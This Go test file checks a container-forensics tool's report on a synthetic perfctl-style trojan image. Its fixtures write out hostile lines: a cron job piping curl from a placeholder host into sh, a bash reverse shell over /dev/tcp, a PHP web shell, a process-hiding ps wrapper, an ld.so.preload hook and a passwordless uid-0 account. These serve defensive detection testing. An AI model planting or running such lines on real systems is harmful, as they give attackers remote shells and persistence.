package casework_test

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/strata-forensics/strata/casework"
	"github.com/strata-forensics/strata/forensics/imagebuild"
)

// perfBase is a Debian-like base every image of the perf-style fleet shares the shape of:
// the standard files (accounts, sshd_config, ps) that a trojan modifies.
func perfBase(name string) imagebuild.Layer {
	t0 := time.Date(2024, 3, 1, 0, 0, 0, 0, time.UTC)
	return imagebuild.Layer{CreatedBy: "/bin/sh -c #(nop) ADD file:" + name + " in / ", Created: t0, Files: []imagebuild.File{
		imagebuild.Dir("etc"), imagebuild.Dir("etc/ssh"), imagebuild.Dir("usr"), imagebuild.Dir("usr/bin"), imagebuild.Dir("usr/lib"),
		imagebuild.Dir("tmp"),
		imagebuild.Reg("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n# "+name+"\n"),
		imagebuild.Reg("etc/shadow", "root:*:19700:0:99999:7:::\nwww-data:*:19700:0:99999:7:::\n").WithMode(0o640),
		imagebuild.Reg("etc/ssh/sshd_config", "PermitRootLogin no\nPasswordAuthentication no\n# "+name+"\n"),
		imagebuild.Reg("usr/bin/ps", "\x7fELF\x02\x01\x01 procps ps "+name+"\n").WithMode(0o755),
	}}
}

// perfImplant is a perfctl-style trojan: the accounts, sshd_config and ps modified, an
// /etc/ld.so.preload naming a hooking library, a cron job fetching a script, and a reverse
// shell in a hidden directory under /tmp, in a layer whose history line claims a chmod.
func perfImplant() imagebuild.Layer {
	t := time.Date(2024, 3, 2, 0, 0, 0, 0, time.UTC)
	return imagebuild.Layer{CreatedBy: "RUN /bin/sh -c chmod 0755 /usr/bin/ps # buildkit", Created: t, Files: []imagebuild.File{
		imagebuild.Dir("etc"), imagebuild.Dir("etc/ssh"), imagebuild.Dir("etc/cron.d"), imagebuild.Dir("usr"), imagebuild.Dir("usr/bin"),
		imagebuild.Dir("usr/lib"), imagebuild.Dir("tmp"), imagebuild.Dir("tmp/.perf.c"),
		imagebuild.Reg("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nsshd-x:x:0:0::/root:/bin/bash\n"),
		imagebuild.Reg("etc/shadow", "root:*:19700:0:99999:7:::\nwww-data:*:19700:0:99999:7:::\nsshd-x::19700:0:99999:7:::\n").WithMode(0o640),
		imagebuild.Reg("etc/ssh/sshd_config", "PermitRootLogin yes\nPasswordAuthentication yes\n"),
		imagebuild.Reg("usr/bin/ps", "#!/bin/sh\n/usr/bin/ps.orig \"$@\" | grep -v perfcc\n").WithMode(0o755),
		imagebuild.Reg("etc/ld.so.preload", "/usr/lib/libgcwrap.so\n"),
		imagebuild.RegBytes("usr/lib/libgcwrap.so", imagebuild.ReverseShellSO()).WithMode(0o755),
		imagebuild.Reg("etc/cron.d/perfclean", "*/5 * * * * root curl -fsSL http://198.51.100.77/p.sh | sh >/dev/null 2>&1\n"),
		imagebuild.Reg("tmp/.perf.c/perfcc", "#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.77/443 0>&1\n").WithMode(0o755),
	}}
}

// TestReportPerfPair: the tracing report of a perfctl-style pair, in a history that holds
// other images with the same standard files and the original read again for other cases,
// names every implant in its summary with ATT&CK techniques, marks the RUN chmod whose layer
// wrote files, lists no generic system path among its indicators or sightings (those are
// generic, with why) while the implant's own hash is still sighted in the image that shares
// it, and has one custody row per evidence file.
func TestReportPerfPair(t *testing.T) {
	ctx := context.Background()
	app := imagebuild.Layer{CreatedBy: "COPY app /srv/app # buildkit", Created: time.Date(2024, 3, 1, 1, 0, 0, 0, time.UTC), Files: []imagebuild.File{
		imagebuild.Dir("srv"), imagebuild.Dir("srv/app"), imagebuild.Reg("srv/app/run.py", "print('perf')\n"),
		// Flagged, but the original holds it too: no implant of the suspect's.
		imagebuild.Reg("srv/app/admin.php", "<?php // mirror http://192.0.2.10/tools\nsystem($_GET['c']); ?>\n")}}
	original := saveImage(t, imagebuild.Image{Tags: []string{"example.test/perf:1"}, Layers: []imagebuild.Layer{perfBase("perf"), app}})
	suspect := saveImage(t, imagebuild.Image{Tags: []string{"example.test/perf:2"}, Layers: []imagebuild.Layer{perfBase("perf"), app, perfImplant()}})
	var others []string
	for _, name := range []string{"alpha", "beta", "gamma"} {
		others = append(others, saveImage(t, imagebuild.Image{Tags: []string{"example.test/" + name + ":1"}, Layers: []imagebuild.Layer{perfBase(name)}}))
	}
	// An image that shares the cron job byte for byte: a real sighting.
	cousin := saveImage(t, imagebuild.Image{Tags: []string{"example.test/cousin:1"}, Layers: []imagebuild.Layer{perfBase("cousin"),
		{CreatedBy: "COPY cron /etc/cron.d # buildkit", Files: []imagebuild.File{imagebuild.Dir("etc"), imagebuild.Dir("etc/cron.d"),
			imagebuild.Reg("etc/cron.d/perfclean", "*/5 * * * * root curl -fsSL http://198.51.100.77/p.sh | sh >/dev/null 2>&1\n")}}}})

	w := workspace(t)
	sc, err := w.NewScanner(ctx, casework.ScanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer sc.Close()
	for _, ref := range append(others, cousin) {
		if _, err := sc.ScanRef(ctx, ref, nil); err != nil {
			t.Fatal(err)
		}
		// The original read again for other cases.
		_, done, err := w.DiffRefs(ctx, original, ref, casework.DiffOptions{}, nil)
		if err != nil {
			t.Fatal(err)
		}
		done()
	}
	_, done, err := w.DiffRefs(ctx, original, suspect, casework.DiffOptions{Scanner: sc}, nil)
	if err != nil {
		t.Fatal(err)
	}
	done()
	r, err := w.Report(ctx, casework.ReportRequest{Diff: true, Original: original, Suspect: suspect}, nil)
	if err != nil {
		t.Fatal(err)
	}

	sm := r.Summary
	named := map[string]bool{}
	for _, im := range sm.Implants {
		named[im.Path] = true
		if im.What == "" || im.Step == "" || im.CreatedBy == "" {
			t.Errorf("summary line of %s lacks what, step or history line: %+v", im.Path, im)
		}
	}
	for _, im := range sm.Implants {
		// ld.so.preload names the hooking library, itself an implant.
		if im.Path == "/etc/ld.so.preload" && !strings.Contains(im.What, "runs /usr/lib/libgcwrap.so, another implant") {
			t.Errorf("the summary line of /etc/ld.so.preload does not say it runs the library: %q", im.What)
		}
	}
	for _, p := range []string{"/etc/cron.d/perfclean", "/tmp/.perf.c/perfcc", "/usr/lib/libgcwrap.so", "/etc/ld.so.preload", "/etc/passwd", "/usr/bin/ps"} {
		if !named[p] {
			t.Errorf("the summary does not name the implant %s: %+v", p, sm.Implants)
		}
	}
	found := false
	for _, f := range r.Findings {
		found = found || f.Path == "/srv/app/admin.php"
	}
	if named["/srv/app/admin.php"] || !found {
		t.Errorf("a flagged file the original holds too: named as an implant %v, among the findings %v", named["/srv/app/admin.php"], found)
	}
	techniques := map[string]bool{}
	for _, im := range sm.Implants {
		for _, tq := range im.Techniques {
			techniques[tq.ID] = tq.Name != ""
		}
	}
	for _, id := range []string{"T1053.003", "T1574.006", "T1059.004"} {
		if named, ok := techniques[id]; !ok || !named {
			t.Errorf("technique %s not in the summary with its name: %v", id, techniques)
		}
	}
	chmod := false
	for _, c := range sm.Contradictions {
		if strings.HasPrefix(c.Line, "RUN chmod") && c.Implant && strings.Contains(c.Reason, "cannot write files") {
			chmod = true
		}
	}
	if !chmod {
		t.Errorf("the RUN chmod whose layer wrote files is not marked: %+v", sm.Contradictions)
	}

	// What a flagged file the original holds too contains is no indicator of the suspect's.
	for _, ind := range r.Indicators {
		if strings.Contains(ind.Value, "192.0.2.10") || strings.HasSuffix(ind.Context, " /srv/app/admin.php") {
			t.Errorf("indicator %s:%s comes from a file the original holds too (%s)", ind.Kind, ind.Value, ind.Context)
		}
	}
	generic := map[string]bool{"/etc/passwd": true, "/etc/shadow": true, "/etc/ssh/sshd_config": true, "/usr/bin/ps": true}
	for _, ind := range r.Indicators {
		if ind.Kind == "path" && generic[ind.Value] {
			t.Errorf("generic path %s is an indicator", ind.Value)
		}
	}
	for _, h := range r.Sightings {
		if strings.HasPrefix(h.Indicator, "path:") && generic[strings.TrimPrefix(h.Indicator, "path:")] || h.Where == "file" && generic[h.Path] && !strings.HasPrefix(h.Indicator, "sha256:") {
			t.Errorf("sighting of a generic system path: %+v", h)
		}
	}
	whyGeneric := map[string]string{}
	for _, ind := range r.Generic {
		whyGeneric[ind.Value] = ind.Why
	}
	for p := range generic {
		if whyGeneric[p] == "" {
			t.Errorf("%s is not listed as generic with a reason: %+v", p, r.Generic)
		}
	}
	cousinSighted := false
	for _, e := range sm.Elsewhere {
		if e.Kind == "sha256" && e.Images == 1 && len(e.Examples) == 1 && strings.Contains(e.Examples[0], "cousin") {
			cousinSighted = true
		}
	}
	if !cousinSighted {
		t.Errorf("the cron job's hash, which the cousin image holds too, is not seen elsewhere: %+v", sm.Elsewhere)
	}

	// Custody: one row per evidence file, however often it was read.
	if len(r.Custody.Evidence) != 2 {
		t.Fatalf("custody has %d rows, want one per evidence file (2): %+v", len(r.Custody.Evidence), r.Custody.Evidence)
	}
	for _, e := range r.Custody.Evidence {
		// The suspect: scanned where it differs and compared, then scanned whole for the
		// report, which lists the findings it shares with the original too.
		want := 3
		if e.Original {
			want = 5 // four comparisons for other cases and this one
		}
		if e.Reads != want || len(e.SHA256) != 1 || e.FirstRead.After(e.LastRead) {
			t.Errorf("custody row %s: %d reads (want %d), sha256 %v, %s..%s", e.Path, e.Reads, want, e.SHA256, e.FirstRead, e.LastRead)
		}
	}
	for _, tg := range r.Tags {
		if tg.ConfigDigest != r.Image.ConfigDigest && tg.ConfigDigest != r.Original.ConfigDigest {
			t.Errorf("tag history holds another image's sighting: %+v", tg)
		}
	}
	reads := 0
	for _, e := range r.Timeline {
		if e.Kind == "read" {
			reads++
		}
	}
	if reads > 2*len(r.Custody.Evidence) || r.TimelineFolded == 0 {
		t.Errorf("timeline: %d read events for %d evidence files, %d folded", reads, len(r.Custody.Evidence), r.TimelineFolded)
	}
	if len(r.FullLog) == 0 {
		t.Error("no pointer to the full log")
	}
}
